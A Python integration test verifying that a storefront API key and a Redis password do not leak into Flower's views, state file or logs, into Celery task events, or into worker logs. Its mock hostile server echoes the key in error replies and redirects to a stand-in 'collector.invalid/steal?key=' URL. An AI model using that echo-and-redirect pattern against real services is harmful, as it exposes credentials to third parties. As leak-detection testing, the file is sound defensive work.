"""Neither the storefront key nor the Redis password reaches Flower.

A real worker posts to a hostile server that echoes the key it was sent in a 401 body,
points a 302 at a URL holding it, answers 500 with it (retried, then dead-lettered), or
hangs up (a transport error, retried); one event is delivered. The worker's REDIS_URL
holds an ACL user's password. Then the key and the password are looked for in what
Flower shows (tasks, workers, the broker page), Flower's log, the state file Flower
saved on SIGTERM, every task event on Redis (task-failed and task-retried carry the
exception and its traceback), and the worker's log.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from itertools import count
from pathlib import Path
from typing import Any

import pytest
import redis

from harness.waiting import SETTLE_SECONDS
from producers import Producer
from tests.conftest import STORE, Worker, wait_until, worker_env
from tests.hostile_http import Behaviour, Hold, HostileServer, Reply, Seen, redirect
from tests.queue_helpers import PubSubRecorder, event, wait_idle
from tests.test_flower import (  # noqa: F401 (start_flower is a fixture)
    Flower,
    failed_task_with,
    start_flower,
    wait_until_quietly,
)
from tests.test_secrets import expand
from tests.test_url_credentials import PASSWORD, password_url  # noqa: F401 (a fixture)
from worker.delivery.scalev import API_KEY_HEADER

pytestmark = pytest.mark.integration

KEY = "pk_live_FLOWER3z8Secret"
FAILING = {
    "clk-echo-401": "reason=http_401",
    "clk-redirect": "reason=http_302",
    "clk-echo-500": "reason=retries_exhausted",
    "clk-hangup": "reason=retries_exhausted",
}


def hostile_scalev(seen: Seen) -> Behaviour:
    """Answers by click_id, echoing the key the request carried wherever it can."""
    key = seen.header(API_KEY_HEADER) or ""
    click_id = json.loads(seen.body or b"{}").get("click_id", "")
    if click_id == "clk-echo-401":
        return Reply(401, {"Content-Type": "application/json"}, f'{{"bad_key": "{key}"}}'.encode())
    if click_id == "clk-redirect":
        return redirect(302, f"https://collector.invalid/steal?key={key}")
    if click_id == "clk-echo-500":
        return Reply(500, {"X-Echo": key}, f"internal error for key {key}".encode())
    if click_id == "clk-hangup":
        return Hold(0)  # read the request, close the connection without an answer
    return Reply(204)


@pytest.fixture
def hostile() -> Iterator[HostileServer]:
    server = HostileServer(respond=hostile_scalev).start()
    yield server
    server.stop()


@pytest.fixture
def recorder(redis_url: str) -> Iterator[PubSubRecorder]:
    thread = PubSubRecorder(redis_url)  # the default user: sees every channel
    thread.start()
    yield thread
    thread.stop()


def leaks(where: str, blob: bytes) -> list[str]:
    return [
        f"{where}: {secret}"
        for form in expand(blob)
        for secret in (KEY, PASSWORD)
        if secret.encode() in form
    ]


def test_flower_and_task_events_never_hold_the_key_or_the_redis_password(
    password_url: str,  # noqa: F811
    redis_client: redis.Redis,
    hostile: HostileServer,
    recorder: PubSubRecorder,
    start_worker: Callable[..., Worker],
    start_flower: Callable[[dict[str, str]], Flower],  # noqa: F811
    tmp_path: Path,
) -> None:
    env = worker_env(
        password_url,
        hostile.url,
        SCALEV_STOREFRONT_API_KEYS=json.dumps({STORE: KEY}),
        SNACKVIDEO_MAX_ATTEMPTS="2",
    )
    worker = start_worker(env, concurrency=1)
    flower = start_flower(env)
    producer = Producer(password_url)

    # Flower sees only the events sent after it connected (as in tests/test_flower.py).
    probes = count()

    def seen_a_probe() -> dict[str, Any] | None:
        click_id = f"clk-probe-{next(probes)}"
        producer.enqueue("store_nokey", event(click_id))
        found: dict[str, Any] | None = wait_until_quietly(
            lambda: failed_task_with(flower, click_id), 3.0
        )
        return found if found and found.get("name") else None

    wait_until(seen_a_probe, SETTLE_SECONDS, interval=0, what="flower to see a task")

    jobs = {click: producer.enqueue(STORE, event(click)) for click in [*FAILING, "clk-ok"]}
    producer.close()
    for click, reason in FAILING.items():
        task = wait_until(
            lambda click=click: failed_task_with(flower, click), SETTLE_SECONDS, what=click
        )
        assert reason in task["exception"], task["exception"]
    wait_until(
        lambda: flower.tasks().get(jobs["clk-ok"], {}).get("state") == "SUCCESS",
        SETTLE_SECONDS,
        what="the delivery in flower",
    )
    wait_idle(redis_client)

    # The key did travel, in its header, and came back in every answer that could hold it.
    sent = hostile.requests()
    assert sent and all(seen.header(API_KEY_HEADER) == KEY for seen in sent)
    assert {json.loads(seen.body)["click_id"] for seen in sent} >= set(jobs)

    shown = {
        "/api/tasks": flower.get("/api/tasks").content,
        "/api/workers": flower.get("/api/workers?refresh=1").content,
        "/broker": flower.get("/broker").content,
        "/tasks": flower.get("/tasks").content,
    }
    for task_id in jobs.values():
        shown[f"/api/task/info/{task_id}"] = flower.get(f"/api/task/info/{task_id}").content
    # The broker page shows the broker URL, its password masked by kombu.
    assert re.search(rb"redis://dispatch:\*\*@127\.0\.0\.1:\d+/0", shown["/broker"])
    # Failed tasks carry their traceback: what the scan reads holds real exceptions.
    info = json.loads(shown[f"/api/task/info/{jobs['clk-echo-401']}"])
    assert "DeadLettered" in info["traceback"] and "reason=http_401" in info["exception"]

    flower.stop()  # SIGTERM: Flower saves its state file
    state_files = sorted(tmp_path.glob("flower.db*"))
    assert state_files, "flower saved no state"
    state = b"".join(path.read_bytes() for path in state_files)
    assert b"clk-echo-401" in state and b"DeadLettered" in state
    shown["flower state file"] = state
    shown["flower log"] = flower.log_path.read_bytes()
    worker.stop()
    shown["worker log"] = worker.log_path.read_bytes()

    events = recorder.task_events()
    kinds = {(item["type"], item.get("uuid")) for item in events}
    for click in FAILING:
        assert ("task-failed", jobs[click]) in kinds, click
    assert ("task-retried", jobs["clk-echo-500"]) in kinds
    assert ("task-retried", jobs["clk-hangup"]) in kinds
    assert any(item.get("traceback") for item in events if item["type"] == "task-failed")

    found = [leak for where, blob in shown.items() for leak in leaks(where, blob)]
    found += [leak for channel, data in recorder.messages for leak in leaks(channel.decode(), data)]
    assert found == []
